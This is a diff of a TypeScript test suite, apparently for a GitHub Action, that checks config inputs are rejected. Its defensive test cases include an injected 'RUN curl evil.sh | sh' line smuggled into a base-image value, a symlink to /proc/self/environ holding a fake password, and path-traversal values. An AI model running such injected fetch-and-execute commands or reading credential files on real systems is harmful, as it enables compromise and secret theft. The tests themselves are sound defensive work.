@@ -11,12 +11,16 @@ import { memoryFs } from './fakes.js'
 const WS = '/ws'
 function load(inputs: Partial<Record<InputName, string>>, files: Record<string, string> = {}, links: Record<string, string> = {}) {
   const raw = (name: InputName): string => inputs[name] ?? INPUT_DEFAULTS[name]
-  return loadConfig(raw, WS, memoryFs(() => new Map(Object.entries(files)), ['/ws'], links))
+  return loadConfig(
+    raw,
+    WS,
+    memoryFs(() => new Map(Object.entries(files)), ['/ws'], links),
+  )
 }
 const GO_MOD = { '/ws/go.mod': 'module x\n\ngo 1.26.0\n\ntoolchain go1.26.8\n' }
 
 describe('loadConfig: every bad input names the input, the value and what is accepted', () => {
-  const cases: Array<[string, Partial<Record<InputName, string>>, Record<string, string>, InputName, string]> = [
+  const cases: [string, Partial<Record<InputName, string>>, Record<string, string>, InputName, string][] = [
     ['a misspelled stage', { stages: 'setup, biuld' }, GO_MOD, 'stages', 'setup, biuld'],
     ['an unknown stage', { stages: 'setup,deploy' }, GO_MOD, 'stages', 'setup,deploy'],
     ['no stage at all', { stages: ',' }, GO_MOD, 'stages', ','],
@@ -37,7 +41,13 @@ describe('loadConfig: every bad input names the input, the value and what is acc
     ['check-latest: on', { 'check-latest': 'on' }, GO_MOD, 'check-latest', 'on'],
     ['a base URL that is not a URL', { 'go-download-base-url': 'not a url' }, GO_MOD, 'go-download-base-url', 'not a url'],
     ['a base URL over ftp', { 'go-download-base-url': 'ftp://example.com/dl' }, GO_MOD, 'go-download-base-url', 'ftp://example.com/dl'],
-    ['a base URL with a query', { 'go-download-base-url': 'https://example.com/dl?mode=json' }, GO_MOD, 'go-download-base-url', 'https://example.com/dl?mode=json'],
+    [
+      'a base URL with a query',
+      { 'go-download-base-url': 'https://example.com/dl?mode=json' },
+      GO_MOD,
+      'go-download-base-url',
+      'https://example.com/dl?mode=json',
+    ],
     ['a working directory outside', { 'working-directory': '../outside' }, GO_MOD, 'working-directory', '../outside'],
     ['an absolute working directory elsewhere', { 'working-directory': '/etc' }, GO_MOD, 'working-directory', '/etc'],
     ['no version and no go.mod', {}, {}, 'go-version', ''],
@@ -78,7 +88,13 @@ describe('loadConfig: every bad input names the input, the value and what is acc
     ['a label without =', { image: 'ghcr.io/acme/app', labels: 'team' }, GO_MOD, 'labels', 'team'],
     ['a missing Dockerfile', { image: 'ghcr.io/acme/app', dockerfile: 'Dockerfile.prod' }, GO_MOD, 'dockerfile', 'Dockerfile.prod'],
     ['a Dockerfile outside', { image: 'ghcr.io/acme/app', dockerfile: '../Dockerfile' }, GO_MOD, 'dockerfile', '../Dockerfile'],
-    ['a base image with a new line', { image: 'ghcr.io/acme/app', 'base-image': 'alpine\nRUN curl evil.sh | sh' }, GO_MOD, 'base-image', 'alpine\nRUN curl evil.sh | sh'],
+    [
+      'a base image with a new line',
+      { image: 'ghcr.io/acme/app', 'base-image': 'alpine\nRUN curl evil.sh | sh' },
+      GO_MOD,
+      'base-image',
+      'alpine\nRUN curl evil.sh | sh',
+    ],
     ['provenance: max', { image: 'ghcr.io/acme/app', provenance: 'max' }, GO_MOD, 'provenance', 'max'],
     ['sbom: 1', { image: 'ghcr.io/acme/app', sbom: '1' }, GO_MOD, 'sbom', '1'],
     ['a builder name with a slash', { image: 'ghcr.io/acme/app', 'buildx-builder': 'a/b' }, GO_MOD, 'buildx-builder', 'a/b'],
@@ -128,7 +144,11 @@ describe('loadConfig: paths through symlinks (issue 12)', () => {
     return error as InputError
   }
   it('refuses a .go-version that is a symlink to /proc/self/environ, without echoing what it points at', async () => {
-    const e = await refused({ 'go-version-file': '.go-version' }, { ...GO_MOD, '/proc/self/environ': 'INPUT_REGISTRY-PASSWORD=hunter2' }, { '/ws/.go-version': '/proc/self/environ' })
+    const e = await refused(
+      { 'go-version-file': '.go-version' },
+      { ...GO_MOD, '/proc/self/environ': 'INPUT_REGISTRY-PASSWORD=hunter2' },
+      { '/ws/.go-version': '/proc/self/environ' },
+    )
     expect(e.message).toContain('points outside the workspace through a symlink')
     expect(e.message).not.toContain('hunter2')
   })
@@ -137,7 +157,9 @@ describe('loadConfig: paths through symlinks (issue 12)', () => {
     expect((await refused({}, GO_MOD, { '/ws/dist': '/nowhere/at/all' })).message).toContain('symlink')
   })
   it('refuses a working-directory reached through a symlink out of the workspace', async () => {
-    expect((await refused({ 'working-directory': 'svc' }, { ...GO_MOD, '/other/go.mod': 'module y\ngo 1.26\n' }, { '/ws/svc': '/other' })).input).toBe('working-directory')
+    expect((await refused({ 'working-directory': 'svc' }, { ...GO_MOD, '/other/go.mod': 'module y\ngo 1.26\n' }, { '/ws/svc': '/other' })).input).toBe(
+      'working-directory',
+    )
   })
   it('cuts a long value short and says how long it was', async () => {
     const e = await refused({ 'working-directory': 'a'.repeat(5000) }, GO_MOD, {})
@@ -206,7 +228,7 @@ describe('action.yml', () => {
   }
   it('declares exactly the inputs the config reads, with the same defaults', () => {
     expect(Object.keys(doc.inputs).sort()).toEqual([...INPUT_NAMES].sort())
-    for (const name of INPUT_NAMES) expect([name, String(doc.inputs[name]?.default ?? '')]).toEqual([name, INPUT_DEFAULTS[name]])
+    for (const name of INPUT_NAMES) expect([name, doc.inputs[name]?.default ?? '']).toEqual([name, INPUT_DEFAULTS[name]])
   })
   it('documents every input and output in action.yml and README.md', () => {
     const readme = readFileSync(path.join(process.cwd(), 'README.md'), 'utf8')
